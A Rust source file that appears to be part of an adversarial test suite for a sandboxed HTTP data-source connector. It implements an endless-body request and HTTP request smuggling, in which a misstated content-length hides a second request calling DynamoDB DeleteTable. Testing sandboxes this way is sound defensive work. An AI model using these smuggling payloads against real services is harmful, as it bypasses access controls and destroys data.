//! Requests whose body is longer than it is said to be: it does not end, or has a second request in it.

use crate::attacks::{Hostile, Outcome, begin_streaming};
use crate::bindings::exports::portcullis::datasource::connector::Error;
use crate::bindings::portcullis::datasource::http_messages;
use crate::bindings::wasi::http::outgoing_handler::handle;
use crate::bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
use crate::request::{finish, honest, refused};
use alloc::format;
use alloc::string::ToString;

/// With arguments, the body has a second request after the stated length: see `smuggle`.
pub(crate) fn endless_request(hostile: &Hostile, action: &str, _: &str) -> Outcome {
    if let Some(how) = hostile.arguments.first() {
        return smuggle(hostile, action, how);
    }
    let (body, stream, response) = begin_streaming(hostile, action)?;
    let mut written = 0u64;
    while stream.blocking_write_and_flush(&[b' '; 4096]).is_ok() {
        written += 4096;
    }
    drop(stream);
    drop(OutgoingBody::finish(body, None));
    finish(response).map(|_| format!("{{\"written\": {written}}}"))
}

/// Sends a request of an allowed operation whose body is followed by a request for another one. `how`
/// says how the length is stated:
///
/// - `stated`: a plain `content-length`.
/// - `valueless`: a header without any value, which some engines count as one that is there.
/// - `cloned`: by a clone of the headers, which shares them in some engines.
/// - `held`: a plain `content-length`, after another request was made with `http-messages`.
fn smuggle(hostile: &Hostile, action: &str, how: &str) -> Outcome {
    let failed = |what: &str| Error::Other(what.to_string());
    let honest = honest(&hostile.authority, action, "{}");
    let headers = honest.headers();
    if how == "held" {
        let (method, scheme) = (&Method::Post, &Scheme::Http);
        let made = http_messages::request(method, scheme, &hostile.authority, "/", &headers, b"{}");
        drop(made.map_err(Error::Other)?);
    }
    let fields = Fields::from_list(&headers).map_err(|_| failed("headers"))?;
    let stated = match how {
        "valueless" => fields.set("content-length", &[]),
        "cloned" => fields.clone().append("content-length", b"2"),
        _ => fields.append("content-length", b"2"),
    };
    stated.map_err(|_| failed("length"))?;
    let request = OutgoingRequest::new(fields);
    let built = request
        .set_method(&honest.method)
        .and_then(|()| request.set_scheme(Some(&honest.scheme)))
        .and_then(|()| request.set_authority(Some(honest.authority)))
        .and_then(|()| request.set_path_with_query(Some(honest.path)));
    built.map_err(|()| failed("request"))?;
    let body = request.body().map_err(|()| failed("body"))?;
    let stream = body.write().map_err(|()| failed("stream"))?;
    let second = format!(
        "{{}}POST / HTTP/1.1\r\nhost: {}\r\nx-amz-target: DynamoDB_20120810.DeleteTable\r\n\
         content-length: 2\r\n\r\n{{}}",
        honest.authority
    );
    // The write may fail: the attack does not depend on how much the engine takes.
    let _ = stream.blocking_write_and_flush(second.as_bytes());
    drop(stream);
    let _ = OutgoingBody::finish(body, None);
    finish(handle(request, None).map_err(refused)?)
}
